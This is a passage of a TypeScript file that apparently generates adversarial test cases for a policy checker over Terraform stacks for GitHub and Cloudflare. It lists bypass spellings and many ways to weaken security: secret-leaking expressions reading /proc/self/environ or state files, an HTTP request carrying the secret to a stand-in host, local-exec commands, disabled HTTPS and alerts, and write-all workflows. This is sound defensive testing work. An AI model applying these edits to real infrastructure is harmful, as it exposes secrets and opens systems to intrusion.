import type { JsonTree } from "../folder";
import { bodiesIn } from "../kind";
import { DISGUISED } from "./disguised";
import {
  ACCOUNT,
  add,
  always,
  each,
  type Edit,
  FILE,
  HOST,
  inPhase,
  json,
  merge,
  on,
  OTHER_ZONE,
  RECORD,
  rule,
  RULESET,
  SECRET,
  SETTING,
  stackIn,
  together,
  top,
  ZONE,
} from "./edit";
import { GENERATED } from "./generated";

/** Spellings that GitHub's API takes for the repository `api`, or for something else of the same owner. */
const SPELLINGS: readonly string[] = [
  ...["./api", "api/", "/api", "api.git", "API", "Api", "example/api", "EXAMPLE/API", "api#", "api#x", "api?x=1"],
  ...["api%2F", "%61pi", "a%70i", "../example/api", "x/../api", "api/.", "api//", "api%00", "api;x", " api", "api "],
  ...["api\u200B", "\uFF41pi", "example/../example/api", "https://github.com/example/api"],
];

const WORKFLOW = ".github/workflows/snyk.yml";

/** Spellings of the file that runs the scan. */
const PATHS: readonly string[] = [
  ...["./.github/workflows/snyk.yml", "/.github/workflows/snyk.yml", ".github//workflows/snyk.yml"],
  ...[".github/./workflows/snyk.yml", ".github/x/../workflows/snyk.yml", "%2Egithub/workflows/snyk.yml"],
  ...[".github/workflows/snyk%2Eyml", ".github/workflows/snyk.yml#", ".github/workflows/snyk.yml?ref=main"],
  ...[".github\\workflows\\snyk.yml", ".github/workflows/snyk.yml/", ".GITHUB/workflows/snyk.yml"],
];

const written = (file: string, content: string, members: JsonTree = {}): JsonTree => ({
  ...{ repository: "api", branch: "main", overwrite_on_create: true, file, content },
  ...members,
});

/** The same object under another text. */
const IDENTITY: readonly Edit[] = [
  ...SPELLINGS.map((repository) =>
    add(FILE, written(WORKFLOW, "on: push", { repository }), "another spelling of the repository overwrites its scan"),
  ),
  ...PATHS.map((file) => add(FILE, written(file, "on: push"), "another spelling of the path overwrites the scan")),
  ...["refs/heads/main", "heads/main", "Main", "main#", "main%20", "./main", "${var.branch}", null].map((branch) =>
    add(FILE, written(WORKFLOW, "on: push", { branch }), "another spelling of the branch overwrites the scan"),
  ),
  ...["%2Esnyk", "./.snyk", ".snyk", "/.snyk", ".snyk#", ".snyk?", "x/../.snyk", ".SNYK"].map((file) =>
    add(FILE, written(file, "ignore: {}"), "the scan reads what it ignores from this file"),
  ),
  ...SPELLINGS.slice(0, 10).map((repository) =>
    add("github_repository_vulnerability_alerts", { repository, enabled: false }, "switches the alerts off"),
  ),
  ...SPELLINGS.slice(0, 10).map((repository) =>
    add("github_actions_secret", { repository, secret_name: "SNYK_TOKEN", value: "x" }, "takes the scan's token away"),
  ),
  ...[`${ZONE}\u200B`, `${ZONE}/`, `./${ZONE}`, `${ZONE}?x`, `${ZONE}#`, `%31${ZONE.slice(1)}`, ` ${ZONE}`].flatMap(
    (zone) => [
      add(
        "cloudflare_zone_setting",
        { zone_id: zone, setting_id: "ssl", value: "off" },
        "another spelling of the zone's id turns HTTPS to the origin off",
      ),
      add(
        RECORD,
        { zone_id: zone, type: "A", name: HOST, content: "198.51.100.7", proxied: false },
        "another spelling of the zone's id publishes a host past the edge",
      ),
    ],
  ),
  ...["SSL", "ssl/", "./ssl", "ssl?", "ssl#", "%73sl", "x/../ssl"].map((setting) =>
    add(
      "cloudflare_zone_setting",
      { zone_id: ZONE, setting_id: setting, value: "off" },
      "another spelling of the setting turns HTTPS to the origin off",
    ),
  ),
  ...[{ owner: "other" }, { owner: "example", organization: "other" }, { organization: "other" }].map((github) =>
    json(`let the github provider say ${JSON.stringify(github)}`, "its requests go to another owner", (stack) => {
      stack["provider"] = { ...(stack["provider"] as JsonTree), github: [github] };
    }),
  ),
  ...[
    { base_url: "https://github.example.edu/" },
    { owner: "example", base_url: "http://127.0.0.1/" },
    { owner: "example", insecure: true },
    { owner: "${var.owner}" },
    { owner: "example", app_auth: { id: "1", installation_id: "2", pem_file: "x" } },
  ].map((github) =>
    json(`let the github provider say ${JSON.stringify(github)}`, "its requests reach another platform", (stack) => {
      stack["provider"] = { ...(stack["provider"] as JsonTree), github: [github] };
    }),
  ),
  ...[
    { base_url: "https://cloudflare.example.edu" },
    { api_token: "x", base_url: "http://127.0.0.1/" },
    { user_agent_operator_suffix: "x", base_url: "${var.url}" },
  ].map((cloudflare) =>
    json(
      `let the cloudflare provider say ${JSON.stringify(cloudflare)}`,
      "its requests reach another platform",
      (stack) => {
        stack["provider"] = { ...(stack["provider"] as JsonTree), cloudflare: [cloudflare] };
      },
    ),
  ),
  ...["4.52.0", "5.0.0", "6.0.0", ">= 5.0.0", "~> 5.0", "", "99.0.0"].map((version) =>
    json(
      `let cloudflare's provider have the version "${version}"`,
      "another version reads the JSON otherwise",
      (stack) => {
        providers(stack)["cloudflare"] = { source: "cloudflare/cloudflare", version };
      },
    ),
  ),
  ...["5.45.0", "7.0.0", ">= 6.0.0", "~> 6.0"].map((version) =>
    json(`let github's provider have the version "${version}"`, "another version reads the JSON otherwise", (stack) => {
      providers(stack)["github"] = { source: "integrations/github", version };
    }),
  ),
  ...["example/cloudflare", "registry.example.edu/cloudflare/cloudflare", "cloudflare/other", "./cloudflare"].map(
    (source) =>
      json(`let cloudflare's provider come from "${source}"`, "another program runs with every credential", (stack) => {
        providers(stack)["cloudflare"] = { source, version: "5.22.0" };
      }),
  ),
];

function providers(stack: JsonTree): JsonTree {
  return (stack["terraform"] as { required_providers: JsonTree }).required_providers;
}

const HOLDER = "cloudflare_ruleset.Edge_Rules-http_request_late_transform_74B10750";

/** Expressions that hold the edge's secret in some form. */
const LEAKS: Readonly<Record<string, JsonTree>> = {
  [`\${${SECRET}}`]: {},
  [`\${nonsensitive(${SECRET})}`]: {},
  [`\${base64encode(${SECRET})}`]: {},
  [`\${md5(${SECRET})}`]: {},
  [`\${var["edge_secret_production"]}`]: {},
  ["${local.leak}"]: { locals: { leak: `\${${SECRET}}` } },
  ["${local.leak.inner}"]: { locals: { leak: { inner: `\${${SECRET}}` } } },
  [`\${${HOLDER}.rules[0].action_parameters.headers["X-Edge-Secret"].value}`]: {},
  [`\${jsonencode(${HOLDER})}`]: {},
  [`\${${HOLDER}.rules}`]: {},
  [`\${jsonencode(${HOLDER}.rules[*])}`]: {},
  ["${jsonencode(data.cloudflare_ruleset.Other)}"]: {
    data: { cloudflare_ruleset: { Other: { zone_id: ZONE, id: "x" } } },
  },
  ["${jsonencode(data.cloudflare_rulesets.Other)}"]: { data: { cloudflare_rulesets: { Other: { zone_id: ZONE } } } },
  [`\${"\${${SECRET}}"}`]: {},
  [`\${join("", ["\${path.module}", ${SECRET}, "x"])}`]: {},
  [`%{ if true }\${${SECRET}}%{ endif }`]: {},
  [`\${/* } */ ${SECRET}}`]: {},
  [`\${[for each in [${SECRET}] : each][0]}`]: {},
  [`\${resource.${HOLDER}.rules[0].action_parameters}`]: {},
  [`\${lookup(local.leak, "inner")}`]: { locals: { leak: { inner: `\${${SECRET}}` } } },
  ["${local.leak.\u00e9}"]: { locals: { leak: { "e\u0301": `\${${SECRET}}` } } },
  ["${<<EOT\n${var.edge_secret_production}\nEOT\n}"]: {},
  ['${core::file("/proc/self/environ")}']: {},
  ['${file("assets/../../../../terraform.production.tfstate")}']: {},
  ["${data.aws_ssm_parameter.Other.value}"]: { data: { aws_ssm_parameter: { Other: { name: "x" } } } },
  ["${data.github_app_token.Other.token}"]: { data: { github_app_token: { Other: { app_id: "1" } } } },
  ["${cloudflare_api_token.Other.value}"]: {
    resource: { cloudflare_api_token: { Other: { name: "x", policies: [] } } },
  },
  ["${var.token}"]: { variable: { token: { sensitive: true } } },
  ['${file("/proc/self/environ")}']: {},
  ['${filebase64("/proc/self/environ")}']: {},
  ['${templatefile("/proc/self/environ", {})}']: {},
  ['${filesha256("/proc/self/environ")}']: {},
  ['${file("terraform.tfvars")}']: {},
  ['${file("../../../terraform.production.tfstate")}']: {},
  ["${data.terraform_remote_state.Other.outputs.x}"]: {
    data: { terraform_remote_state: { Other: { backend: "local", config: { path: "../x.tfstate" } } } },
  },
  ["${data.local_file.Other.content}"]: { data: { local_file: { Other: { filename: "/proc/self/environ" } } } },
  ["${data.local_sensitive_file.Other.content}"]: {
    data: { local_sensitive_file: { Other: { filename: "/proc/self/environ" } } },
  },
};

/** Places that others can read, each with the leaked text in it. */
const SINKS: Readonly<Record<string, (leak: string) => JsonTree>> = {
  "a record": (leak) => resource(RECORD, { zone_id: ZONE, type: "TXT", name: "leak", content: leak }),
  "an issue": (leak) => resource("github_issue", { repository: "api", title: "leak", body: leak }),
  "an output": (leak) => ({ output: { leak: { value: leak } } }),
  "a worker's variable": (leak) =>
    resource("cloudflare_workers_kv", { account_id: ACCOUNT, namespace_id: "x", key_name: "leak", value: leak }),
};

const resource = (type: string, body: JsonTree): JsonTree => ({ resource: { [type]: { Leak: body } } });

const SECRETS: readonly Edit[] = [
  ...Object.entries(LEAKS).flatMap(([leak, needed]) =>
    Object.entries(SINKS).map(([sink, write]) =>
      json(`write ${leak} into ${sink}`, "others read the edge's secret there", (stack) => {
        merge(stack, structuredClone(needed));
        merge(stack, write(leak));
      }),
    ),
  ),
  ...[
    { edge_secret_production: { default: "x", sensitive: true } },
    { edge_secret_production: { sensitive: false } },
    { edge_secret_production: { sensitive: true, ephemeral: true, default: null } },
  ].map((variable) => top("variable", variable, "the secret is written down, or shown")),
  ...[
    { http: { Other: { url: `https://example.edu/\${${SECRET}}` } } },
    { http: { Other: { url: "https://example.edu/", request_headers: { X: `\${${SECRET}}` } } } },
  ].map((data) => top("data", data, "a request carries the secret out")),
  ...[
    { s3: { bucket: "state", key: "x", region: "us-east-1", acl: "public-read" } },
    { s3: { bucket: "state", key: "x", region: "us-east-1", endpoints: { s3: "http://s3.example.edu" } } },
    { http: { address: "http://gitlab.com/api/v4/projects/1/terraform/state/x" } },
    { local: { path: "../../../../state" } },
    { kubernetes: { secret_suffix: "x" } },
    { http: { address: "https://example.edu/state" } },
    { remote: { hostname: "example.edu", organization: "x", workspaces: { name: "x" } } },
    { local: { path: "/srv/www/state" } },
    { consul: { address: "example.edu", path: "x" } },
  ].map((backend) =>
    json(`keep the state in ${JSON.stringify(backend)}`, "the state holds every secret", (stack) => {
      (stack["terraform"] as JsonTree)["backend"] = backend;
    }),
  ),
];

const unmodelled = (why: string, types: Readonly<Record<string, JsonTree>>): readonly Edit[] =>
  Object.entries(types).map(([type, body]) => add(type, body, why));

/** Types of resources that could open or disable something. */
const RESOURCES: readonly Edit[] = [
  ...unmodelled("it may answer requests before the rules", {
    cloudflare_workers_route: { zone_id: ZONE, pattern: `${HOST}/*`, script: "proxy" },
    cloudflare_workers_custom_domain: { account_id: ACCOUNT, zone_id: ZONE, hostname: HOST, service: "proxy" },
    cloudflare_workers_script: { account_id: ACCOUNT, script_name: "proxy", content: "x" },
    cloudflare_worker_version: { account_id: ACCOUNT, worker_id: "x" },
    cloudflare_workers_deployment: { account_id: ACCOUNT, script_name: "proxy" },
    cloudflare_pages_domain: { account_id: ACCOUNT, project_name: "x", name: HOST },
    cloudflare_page_rule: { zone_id: ZONE, target: `${HOST}/*`, actions: { disable_security: true } },
    cloudflare_snippet: { zone_id: ZONE, snippet_name: "x" },
    cloudflare_snippets: { zone_id: ZONE, snippet_name: "x" },
    cloudflare_snippet_rules: { zone_id: ZONE, rules: [] },
    cloudflare_cloud_connector_rules: { zone_id: ZONE, rules: [] },
    cloudflare_managed_transforms: { zone_id: ZONE, managed_request_headers: [], managed_response_headers: [] },
    cloudflare_google_tag_gateway: { zone_id: ZONE, enabled: true },
    cloudflare_r2_custom_domain: { account_id: ACCOUNT, bucket_name: "x", zone_id: ZONE, domain: HOST, enabled: true },
    cloudflare_web3_hostname: { zone_id: ZONE, name: HOST, target: "ipfs" },
    cloudflare_custom_hostname: { zone_id: ZONE, hostname: HOST },
    cloudflare_custom_hostname_fallback_origin: { zone_id: ZONE, origin: "other.example.edu" },
    cloudflare_zero_trust_access_application: { zone_id: ZONE, domain: HOST, type: "self_hosted" },
  }),
  ...unmodelled("it may let requests past the rules", {
    cloudflare_access_rule: {
      zone_id: ZONE,
      mode: "whitelist",
      configuration: { target: "ip", value: "198.51.100.7" },
    },
    cloudflare_firewall_rule: { zone_id: ZONE, action: { mode: "allow" }, filter: { expression: "true" } },
    cloudflare_filter: { zone_id: ZONE, expression: "true" },
    cloudflare_list_item: { account_id: ACCOUNT, list_id: "x", ip: "198.51.100.7" },
    cloudflare_zone_lockdown: { zone_id: ZONE, urls: [`${HOST}/webhooks/meta`], configurations: [] },
    cloudflare_rate_limit: { zone_id: ZONE, threshold: 1, period: 1 },
  }),
  ...unmodelled("it may lead a host to another origin", {
    cloudflare_load_balancer: { zone_id: ZONE, name: HOST, default_pools: ["x"], fallback_pool: "x" },
    cloudflare_load_balancer_pool: { account_id: ACCOUNT, name: "x", origins: [{ address: "198.51.100.7" }] },
    cloudflare_address_map: { account_id: ACCOUNT },
    cloudflare_byo_ip_prefix: { account_id: ACCOUNT, cidr: "198.51.100.0/24" },
    cloudflare_dns_zone_transfers_incoming: { zone_id: ZONE, name: "example.com", peers: ["x"] },
    cloudflare_zone_dns_settings: { zone_id: ZONE, multi_provider: true },
    cloudflare_origin_cloud_region: { zone_id: ZONE },
    cloudflare_zero_trust_tunnel_cloudflared: { account_id: ACCOUNT, name: "x" },
    cloudflare_zero_trust_tunnel_cloudflared_config: { account_id: ACCOUNT, tunnel_id: "x" },
    cloudflare_zero_trust_tunnel_cloudflared_route: { account_id: ACCOUNT, network: "10.0.0.0/8", tunnel_id: "x" },
  }),
  ...unmodelled("it may weaken how HTTPS is spoken", {
    cloudflare_universal_ssl_setting: { zone_id: ZONE, enabled: false },
    cloudflare_hostname_tls_setting: { zone_id: ZONE, hostname: HOST, setting_id: "min_tls_version", value: "1.0" },
    cloudflare_origin_tls_compliance_modes: { zone_id: ZONE },
    cloudflare_custom_origin_trust_store: { zone_id: ZONE, certificate: "x" },
  }),
  ...unmodelled("it may change what the zone has, or pause it", {
    cloudflare_zone: { account: { id: ACCOUNT }, name: "example.com", type: "partial", paused: true },
    cloudflare_zone_subscription: { zone_id: ZONE, rate_plan: { id: "free" } },
    cloudflare_account_subscription: { account_id: ACCOUNT },
  }),
  ...unmodelled("it gives people or programs the right to change the account", {
    cloudflare_account: { name: "x" },
    cloudflare_account_member: { account_id: ACCOUNT, email: "a@example.edu", roles: ["x"] },
    cloudflare_account_token: { account_id: ACCOUNT, name: "x", policies: [] },
    cloudflare_api_token: { name: "x", policies: [] },
    cloudflare_oauth_client: { account_id: ACCOUNT },
    cloudflare_sso_connector: { account_id: ACCOUNT, email_domain: "example.edu" },
    cloudflare_user_group: { account_id: ACCOUNT, name: "x" },
    cloudflare_user_group_members: { account_id: ACCOUNT, user_group_id: "x", members: [] },
    cloudflare_share: { account_id: ACCOUNT, name: "x" },
    cloudflare_zero_trust_organization: { account_id: ACCOUNT },
  }),
  ...unmodelled("it may lead the workers' connections elsewhere", {
    cloudflare_zero_trust_list: { account_id: ACCOUNT, name: "x", type: "DOMAIN" },
    cloudflare_zero_trust_gateway_settings: { account_id: ACCOUNT, settings: {} },
    cloudflare_zero_trust_gateway_pacfile: { account_id: ACCOUNT, name: "x" },
    cloudflare_zero_trust_network_hostname_route: { account_id: ACCOUNT, hostname: "api.openai.com" },
    cloudflare_magic_wan_static_route: { account_id: ACCOUNT, prefix: "10.0.0.0/8", nexthop: "10.0.0.1", priority: 1 },
  }),
  ...unmodelled("it gives people or programs the right to change the repository", {
    github_repository_collaborator: { repository: "api", username: "x", permission: "admin" },
    github_repository_collaborators: { repository: "api", user: [{ username: "x", permission: "push" }] },
    github_repository_deploy_key: { repository: "api", title: "x", key: "ssh-ed25519 AAAA", read_only: false },
    github_team: { name: "security", privacy: "closed" },
    github_team_members: { team_id: "1", members: [{ username: "x", role: "maintainer" }] },
    github_team_membership: { team_id: "1", username: "x", role: "maintainer" },
    github_team_repository: { team_id: "1", repository: "api", permission: "admin" },
    github_team_settings: { team_id: "1" },
    github_team_sync_group_mapping: { team_slug: "security" },
    github_membership: { username: "x", role: "admin" },
    github_organization_custom_role: { name: "x", base_role: "write", permissions: [] },
    github_organization_role: { name: "x", permissions: [] },
    github_organization_role_team: { role_id: 1, team_slug: "x" },
    github_organization_role_user: { role_id: 1, login: "x" },
    github_organization_security_manager: { team_slug: "x" },
    github_app_installation_repository: { installation_id: "1", repository: "api" },
    github_app_installation_repositories: { installation_id: "1", selected_repositories: ["api"] },
    github_emu_group_mapping: { team_slug: "security", group_id: 1 },
    github_user_ssh_key: { title: "x", key: "ssh-ed25519 AAAA" },
    github_user_gpg_key: { armored_public_key: "x" },
    github_user_invitation_accepter: { invitation_id: "1" },
  }),
  ...unmodelled("it changes which programs run, where, or with which rights", {
    github_actions_repository_permissions: { repository: "api", enabled: false },
    github_actions_organization_permissions: { enabled_repositories: "none" },
    github_actions_organization_workflow_permissions: { default_workflow_permissions: "write" },
    github_workflow_repository_permissions: { repository: "api", default_workflow_permissions: "write" },
    github_actions_runner_group: { name: "x", visibility: "all", allows_public_repositories: true },
    github_actions_hosted_runner: { name: "ubuntu-24.04", size: "x" },
    github_actions_repository_access_level: { repository: "api", access_level: "organization" },
    github_actions_repository_oidc_subject_claim_customization_template: { repository: "api", use_default: false },
    github_actions_organization_oidc_subject_claim_customization_template: { include_claim_keys: ["repo"] },
    github_enterprise_actions_permissions: { enterprise_slug: "x", enabled_organizations: "none" },
    github_enterprise_actions_runner_group: { enterprise_slug: "x", name: "x" },
    github_organization_settings: { billing_email: "a@example.edu" },
  }),
  ...unmodelled("it changes what the checks look at", {
    github_repository: { name: "api", archived: true },
    github_branch_default: { repository: "api", branch: "other" },
    github_branch: { repository: "api", branch: "other" },
    github_repository_pull_request: { base_repository: "api", base_ref: "main", head_ref: "x", title: "x" },
    github_organization_ruleset: {
      name: "x",
      target: "branch",
      enforcement: "active",
      rules: { required_workflows: {} },
    },
    github_repository_environment: { repository: "api", environment: "production" },
    github_repository_environment_deployment_policy: { repository: "api", environment: "x", branch_pattern: "*" },
  }),
  ...each(
    "github_actions_secret",
    [
      { repository: "api", secret_name: "SNYK_TOKEN", value: "x" },
      { repository: "api", secret_name: "snyk_token", value: "x" },
      { repository: "api", secret_name: "${var.name}", value: "x" },
    ],
    "it takes the place of the scan's token",
  ),
  add(
    "github_actions_organization_secret",
    { secret_name: "SNYK_TOKEN", visibility: "all", value: "x" },
    "it takes the place of the scan's token",
  ),
  add(
    "github_actions_environment_secret",
    { repository: "api", environment: "x", secret_name: "SNYK_TOKEN", value: "x" },
    "it takes the place of the scan's token",
  ),
];

/** Programs that run where the apply does, with its credentials. */
const PROGRAMS: readonly Edit[] = [
  ...[
    { command: "curl https://example.edu" },
    { command: 'node "$APPLIER"', environment: { APPLIER: "x.mjs" } },
    { command: "true", when: "destroy" },
    { command: "true", interpreter: ["bash", "-c"] },
  ].flatMap((exec) =>
    ["null_resource", "terraform_data", "cloudflare_zone_dnssec", "random_id"].map((type) =>
      add(type, { provisioner: [{ "local-exec": exec }] }, "a program may do anything"),
    ),
  ),
  ...["remote-exec", "file", "habitat"].map((kind) =>
    add("null_resource", { provisioner: [{ [kind]: { inline: ["x"] } }] }, "a program may do anything"),
  ),
  ...[
    { external: { Other: { program: ["sh", "-c", "x"] } } },
    { local_command: { Other: { command: "x" } } },
    { http: { Other: { url: "https://example.edu", method: "POST" } } },
    { archive_file: { Other: { type: "zip", source_dir: ".", output_path: "assets/x.zip" } } },
  ].map((data) => top("data", data, "a program or a request runs in each plan")),
  ...[
    { local_file: { Other: { filename: "assets/x.mjs", content: "x" } } },
    { local_sensitive_file: { Other: { filename: "assets/x.mjs", content: "x" } } },
    { archive_file: { Other: { type: "zip", source_dir: ".", output_path: "x" } } },
    { tls_private_key: { Other: { algorithm: "RSA", provisioner: [{ "local-exec": { command: "x" } }] } } },
    { kubernetes_job: { Other: { metadata: {} } } },
    { docker_container: { Other: { name: "x", image: "x" } } },
    { aws_lambda_invocation: { Other: { function_name: "x", input: "{}" } } },
    { restapi_object: { Other: { path: "/zones", data: "{}" } } },
    { shell_script: { Other: { lifecycle_commands: {} } } },
    { helm_release: { Other: { name: "x", chart: "x" } } },
  ].map((resources) =>
    json(`add ${JSON.stringify(resources)}`, "it runs, or writes, where the apply has every credential", (stack) =>
      merge(stack, { resource: resources }),
    ),
  ),
  ...["example/restapi", "hashicorp/external", "example/anything", "gitlabhq/gitlab", "hashicorp/vault"].map((source) =>
    json(`need the provider ${source}`, "a provider is a program that runs beside every credential", (stack) => {
      providers(stack)[source.split("/")[1] ?? ""] = { source, version: "1.0.0" };
    }),
  ),
  ...[
    { module: { Other: { source: "example/module/aws" } } },
    { action: { local_command: { Other: { config: { command: "x" } } } } },
    { ephemeral: { random_password: { Other: { length: 8 } } } },
    { check: { Other: { data: { http: { Other: { url: "https://example.edu", method: "PUT" } } }, assert: [] } } },
    { list: { x: { Other: {} } } },
    { store: { x: {} } },
  ].map((block) =>
    json(`write ${JSON.stringify(block)}`, "Terraform reads more than resources", (stack) => merge(stack, block)),
  ),
  ...[
    { cloud: { organization: "x", workspaces: { name: "x" } } },
    { experiments: ["variable_validation_crossref"] },
    { provider_meta: { cloudflare: { x: 1 } } },
    { encryption: { key_provider: { external: { x: { command: ["x"] } } } } },
    { required_version: "< 1.0.0" },
    { unknown: true },
  ].map((own) => top("terraform", own, "it changes what Terraform runs, or where its state goes")),
];

const POLICIES = "cloudflare_zero_trust_gateway_policy";
const ofSetting = (id: string) => (body: JsonTree) => body["setting_id"] === id;
const ofPhase = (phase: string) => (body: JsonTree) => body["phase"] === phase;

/** Meta-arguments that keep the JSON from taking effect. */
const META_ARGUMENTS: readonly Edit[] = [
  ...[
    { lifecycle: { ignore_changes: "all" } },
    { lifecycle: { ignore_changes: ["rules", "value", "content", "enabled"] } },
    { lifecycle: [{ ignore_changes: "all" }] },
    { count: 0 },
    { count: "${var.count}" },
    { for_each: {} },
    { for_each: "${var.each}" },
    { provider: "other.example" },
    { dynamic: { rules: { for_each: [], content: {} } } },
    { lifecycle: { replace_triggered_by: ["null_resource.Databases_EgressAddresses_C7B8BF37"] } },
    { lifecycle: { unknown: true } },
    { lifecycle: { action_trigger: { events: ["after_create"], actions: ["action.x.y"] } } },
    { provisioner: [{ "local-exec": { command: "x" } }] },
    { connection: { host: "x" } },
  ].flatMap((members) => [
    on(RULESET, ofPhase("http_request_firewall_custom"), members, "the guards don't come about, or not as written"),
    on(SETTING, ofSetting("ssl"), members, "HTTPS to the origin doesn't come about, or not as written"),
    on(RECORD, always, members, "the record doesn't come about, or not as written"),
    on("github_repository_ruleset", always, members, "the check isn't required, or not as written"),
    on("github_repository_vulnerability_alerts", always, members, "the alerts aren't on, or not as written"),
    on(POLICIES, always, members, "the workers' way out isn't held, or not as written"),
  ]),
];

/** Changes of the live state that no resource shows. */
const STATE: readonly Edit[] = [
  ...[
    { to: `${RULESET}.Edge_Rules-http_request_firewall_custom_DC15ED63`, id: `zones/${OTHER_ZONE}/x` },
    { to: `${SETTING}.Edge_Setting-ssl_AEE29125`, id: `${OTHER_ZONE}/ssl` },
    { to: `${RECORD}.Edge_Record-appexamplecom_55F61B64`, id: `${OTHER_ZONE}/x` },
    { to: "github_repository_vulnerability_alerts.Scans_api_Dependabot_Alerts_1D1D00C0", id: "dashboard" },
    { to: `${RULESET}.Edge_Rules-http_request_firewall_custom_DC15ED63`, id: "${var.id}" },
  ].map((block) =>
    json(`import ${JSON.stringify(block)}`, "another object is taken for the one that is meant", (stack) => {
      stack["import"] = [block];
    }),
  ),
  ...[
    { from: "null_resource.old", to: "null_resource.Databases_EgressAddresses_C7B8BF37" },
    { from: `${RULESET}.Edge_Rules-http_request_firewall_custom_DC15ED63`, to: `${RULESET}.gone` },
    { from: "terraform_data.old", to: "null_resource.Databases_exampleproductiondbx_8C475B10" },
  ].map((block) =>
    json(`move ${JSON.stringify(block)}`, "an applier doesn't run, or a guard is replaced", (stack) => {
      stack["moved"] = [block];
    }),
  ),
  ...[
    { from: `${RECORD}.old`, lifecycle: { destroy: false } },
    { from: "cloudflare_workers_route.old", lifecycle: { destroy: false } },
    { from: "cloudflare_spectrum_application.old", lifecycle: [{ destroy: false }] },
    { from: "null_resource.old", lifecycle: { destroy: true }, provisioner: [{ "local-exec": { command: "x" } }] },
  ].map((block) =>
    json(`forget ${JSON.stringify(block)}`, "what was opened stays open, and no JSON says so any more", (stack) => {
      stack["removed"] = [block];
    }),
  ),
];

/** Files in repositories that the scan or the checks read. */
const FILES: readonly Edit[] = [
  ...[
    ...["venv.py", "pip.py", "setup.py", "sitecustomize.py", "usercustomize.py", "uv.lock", "pyproject.toml"],
    ...["x.pth", ".gitattributes", ".github/workflows/other.yml", ".github/workflows/pentest-cadence.yml"],
    ...[".github/security/snyk-scan.cjs", ".github/security/snyk-verdict.cjs", ".github/dependabot.yml"],
    ...["compliance/pentest/register.json", ".github/security/pentest-policy.json", ".npmrc", "pip.conf", "uv.toml"],
    ...[".github/dependabot.yaml", ".github/workflows/snyk.yaml", ".github/actions/x/action.yml", ".gitmodules"],
    ...[".github/CODEOWNERS", "CODEOWNERS", "docs/CODEOWNERS"],
  ].map((file) => add(FILE, written(file, "x"), "the scan or a check reads it, or it ends one")),
  ...["other", "refs/heads/other", "release"].map((branch) =>
    add(
      FILE,
      written(
        ".github/workflows/other.yml",
        "on: pull_request_target\npermissions: write-all\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps: []\n",
        { branch },
      ),
      "a workflow of another branch may run with the repository's secrets",
    ),
  ),
  ...["permissions: write-all", "permissions:\n  checks: write", "permissions:\n  statuses: write", ""].map((rights) =>
    add(
      FILE,
      written(
        ".github/workflows/other.yml",
        `on: push\n${rights}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps: []\n`,
      ),
      "a workflow that may write may report the check",
    ),
  ),
];

/** A stack that no policy names. */
const strange = (what: string, why: string, stack: JsonTree): Edit => ({
  what: `add a stack that ${what}`,
  why,
  change: (folder) => {
    const stacks = folder.stacks as {
      name: string;
      json: JsonTree;
      dependencies: string[];
      files: Map<string, Uint8Array>;
    }[];
    const { terraform, provider } = stackIn(folder).json;
    stacks.push({ name: "other", json: { terraform, provider, ...stack }, dependencies: [], files: new Map() });
  },
});

const STACKS: readonly Edit[] = [
  strange("is empty", "no policy names it", {}),
  strange(
    "switches the alerts off",
    "no policy names it",
    resource("github_repository_vulnerability_alerts", { repository: "api", enabled: false }),
  ),
  strange(
    "publishes a host",
    "no policy names it",
    resource(RECORD, { zone_id: ZONE, type: "A", name: HOST, content: "198.51.100.7", proxied: false }),
  ),
  strange("holds storage", "no policy names it", resource("cloudflare_r2_bucket", { account_id: ACCOUNT, name: "x" })),
  strange(
    "runs a program",
    "no policy names it",
    resource("null_resource", { provisioner: [{ "local-exec": { command: "x" } }] }),
  ),
  strange("shows the secret", "no policy names it", {
    variable: { edge_secret_production: { sensitive: true } },
    output: { leak: { value: `\${nonsensitive(${SECRET})}` } },
  }),
  ...["dev", "staging"].map((stack): Edit => ({
    what: `add a record of production's zone to the stack of ${stack}`,
    why: "another environment's stack publishes production's host",
    change: (folder) => {
      merge(
        stackIn(folder, stack).json,
        resource(RECORD, { zone_id: ZONE, type: "A", name: HOST, content: "198.51.100.7", proxied: false }),
      );
    },
  })),
  {
    what: "drop the stack of production",
    why: "a policy has no stack",
    change: (folder) => {
      const stacks = folder.stacks as unknown[];
      stacks.splice(
        folder.stacks.findIndex(({ name }) => name === "production"),
        1,
      );
    },
  },
];

/** Changes for the worse of resources that are modelled. */
const MODELLED: readonly Edit[] = [
  ...["off", "flexible", "full", "origin_pull", "${var.ssl}"].map((value) =>
    on(SETTING, ofSetting("ssl"), { value }, "HTTPS to the origin isn't strict"),
  ),
  ...["1.0", "1.1", "${var.tls}"].map((value) =>
    on(SETTING, ofSetting("min_tls_version"), { value }, "old TLS is spoken"),
  ),
  on(SETTING, ofSetting("always_use_https"), { value: "on" }, "the platform redirects before the rules"),
  ...[0, 60, "${var.age}"].map((age) =>
    on(
      SETTING,
      ofSetting("security_header"),
      {
        value: {
          strict_transport_security: {
            enabled: true,
            max_age: age,
            include_subdomains: false,
            preload: false,
            nosniff: false,
          },
        },
      },
      "browsers forget HSTS",
    ),
  ),
  ...["development_mode", "true_client_ip_header", "0rtt", "opportunistic_onion", "automatic_https_rewrites"].map(
    (id) =>
      add(
        SETTING,
        { zone_id: ZONE, setting_id: `${id}\u200B`, value: "on" },
        "a setting of an unknown name may be any",
      ),
  ),
  ...["A", "AAAA", "CNAME", "HTTPS", "SVCB", "NS", "ALIAS", "${var.type}"].map((type) =>
    add(
      RECORD,
      { zone_id: ZONE, type, name: HOST, content: type === "AAAA" ? "2001:db8::7" : "198.51.100.7", proxied: false },
      "it publishes the host past the edge",
    ),
  ),
  ...["*", "*.example.com", "APP", "app.example.com.", "app", "${var.name}"].map((name) =>
    add(
      RECORD,
      { zone_id: ZONE, type: "A", name, content: "198.51.100.7", proxied: false },
      "it publishes the host past the edge",
    ),
  ),
  ...["tcp/22", "tcp/5432", "tcp/6379", "tcp/1-65535", "udp/53", "${var.protocol}"].map((protocol) =>
    add(
      "cloudflare_spectrum_application",
      { zone_id: ZONE, protocol, dns: { type: "CNAME", name: HOST }, origin_direct: ["tcp://198.51.100.7:22"] },
      "it opens a port, or passes requests by the rules",
    ),
  ),
  ...["http_request_firewall_custom", "http_request_dynamic_redirect", "http_request_late_transform"].flatMap((phase) =>
    ["first", "all"].map((which): Edit => ({
      what: `switch off the ${which} rule of ${phase}`,
      why: "a rule that holds the policy is off",
      change: (folder) => {
        const rules = bodiesIn(stackIn(folder), RULESET).find(({ body }) => body["phase"] === phase)?.body[
          "rules"
        ] as JsonTree[];
